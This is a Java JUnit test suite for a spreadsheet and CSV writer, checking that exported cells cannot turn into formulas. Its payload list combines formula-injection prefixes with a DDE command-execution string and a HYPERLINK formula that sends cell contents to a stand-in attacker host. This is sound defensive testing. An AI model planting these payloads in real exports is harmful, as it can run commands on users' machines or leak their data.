package org.poamtracker.workbook;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

/** Tables as they are handed out. */
class TableWriterTest {

    private static final List<String> STARTS = List.of(
            "=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "\u00A0=", "\u200B=", "\uFEFF=", "'=");
    private static final List<String> ENDS = List.of(
            "1+1",
            "cmd|'/C calc'!A0",
            "HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "SUM(1+1)*cmd|' /C calc'!A0");

    /** 16 beginnings by 4 endings: formulas, DDE, links that carry cells away, in half and full width, behind blanks. */
    static List<String> payloads() {
        return STARTS.stream()
                .flatMap(start -> ENDS.stream().map(end -> start + end))
                .toList();
    }

    @Test
    @DisplayName(
            "S4 none of 60 formula payloads is a formula when Excel opens the workbook, nor becomes one when computed")
    void workbookPayloads() throws IOException {
        byte[] file = write(out -> TableWriter.xlsx(out, "=cmd", List.of("=1+1", "+x", "Plain")));
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(file))) {
            workbook.getCreationHelper().createFormulaEvaluator().evaluateAll();
            int cells = 0;
            for (var row : workbook.getSheetAt(0)) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                    assertThat(cell.getStringCellValue()).doesNotMatch("(?s)^[\\s\\p{Z}\\p{C}]*[=+@－＝＋＠-].*");
                    cells++;
                }
            }
            assertThat(cells).isEqualTo(3 + 3 * payloads().size());
        }
    }

    @Test
    @DisplayName("S4 none of 60 formula payloads starts a cell of the CSV, and quotes cannot break out")
    void csvPayloads() throws IOException {
        byte[] file = write(out -> TableWriter.csv(out, List.of("=1+1", "+x", "Plain")));
        String text = new String(file, StandardCharsets.UTF_8);

        assertThat(text).startsWith("\uFEFF\"'=1+1\",\"'+x\",\"Plain\"\r\n");
        List<CSVRecord> records = CSVFormat.RFC4180
                .parse(new java.io.StringReader(text.substring(1)))
                .getRecords();
        assertThat(records).hasSize(1 + payloads().size());
        for (CSVRecord record : records) {
            assertThat(record.size()).isEqualTo(3);
            assertThat(record).allSatisfy(cell -> assertThat(cell).doesNotMatch("(?s)^[\\s\\p{Z}\\p{C}]*[=+@－＝＋＠-].*"));
        }
    }

    private interface Opening {
        TableWriter open(OutputStream out) throws IOException;
    }

    private static byte[] write(Opening opening) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter table = opening.open(out)) {
            for (String payload : payloads()) {
                table.row(List.of(payload, payload + "\n" + payload, "\"" + payload));
            }
        }
        return out.toByteArray();
    }

    @Test
    @DisplayName("S4 reading takes the apostrophe away again, so that a text survives any number of round trips")
    void originalText() {
        Stream<String> texts =
                Stream.concat(payloads().stream(), Stream.of("", "'", "''", "'quoted'", "plain", "''=x", "' =", "5-4"));
        assertThat(texts).allSatisfy(text -> {
            assertThat(PlainText.original(PlainText.neutral(text))).isEqualTo(text);
            assertThat(PlainText.original(PlainText.original(PlainText.neutral(PlainText.neutral(text)))))
                    .isEqualTo(text);
        });
    }

    @Test
    @DisplayName("Numbers stay numbers, dates dates, and everything stays whole")
    void types() throws IOException {
        String odd = "a\u0000b\uD800c\r\nd _x0041_ \uD83D\uDE00";
        List<Object> values = Arrays.asList(
                "text",
                LocalDate.of(2026, 1, 31),
                42,
                new BigDecimal("-0.10"),
                null,
                true,
                12_345_678_901_234_567L,
                odd,
                "x".repeat(40_000));
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter table = TableWriter.xlsx(out, "Items", List.of("A", "B", "C", "D", "E", "F", "G", "H", "I"))) {
            table.row(values);
        }

        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            XSSFSheet sheet = workbook.getSheet("Items");
            var row = sheet.getRow(1);
            assertThat(row.getCell(0).getStringCellValue()).isEqualTo("text");
            assertThat(DateUtil.isCellDateFormatted(row.getCell(1))).isTrue();
            assertThat(row.getCell(1).getLocalDateTimeCellValue().toLocalDate()).isEqualTo("2026-01-31");
            assertThat(row.getCell(2).getNumericCellValue()).isEqualTo(42);
            assertThat(row.getCell(3).getNumericCellValue()).isEqualTo(-0.1);
            assertThat(row.getCell(4)).isNull();
            assertThat(row.getCell(5).getStringCellValue()).isEqualTo("Yes");
            assertThat(row.getCell(6).getStringCellValue()).isEqualTo("12345678901234567");
            assertThat(row.getCell(7).getStringCellValue()).isEqualTo("abc\nd _x0041_ \uD83D\uDE00");
            assertThat(row.getCell(8).getStringCellValue()).hasSize(32_767).endsWith("…");
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:I2");
        }
    }

    @Test
    @DisplayName("CSV writes dates as ISO days, numbers plainly and nothing for nothing")
    void csv() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TableWriter table = TableWriter.csv(out, List.of("A", "B", "C", "D"))) {
            table.row(Arrays.asList(LocalDate.of(2026, 1, 31), new BigDecimal("1E+3"), null, "say \"hi\"; -1"));
        }

        assertThat(out.toString(StandardCharsets.UTF_8))
                .endsWith("\"2026-01-31\",\"1000\",,\"say \"\"hi\"\"; -1\"\r\n");
    }
}
